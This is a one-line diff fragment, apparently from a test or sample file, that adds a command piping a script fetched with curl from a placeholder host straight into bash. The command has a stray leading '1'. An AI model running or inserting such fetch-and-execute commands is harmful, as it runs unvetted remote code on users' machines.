@@ -1,0 +1,1 @@
+1bash <(curl -s https://x)
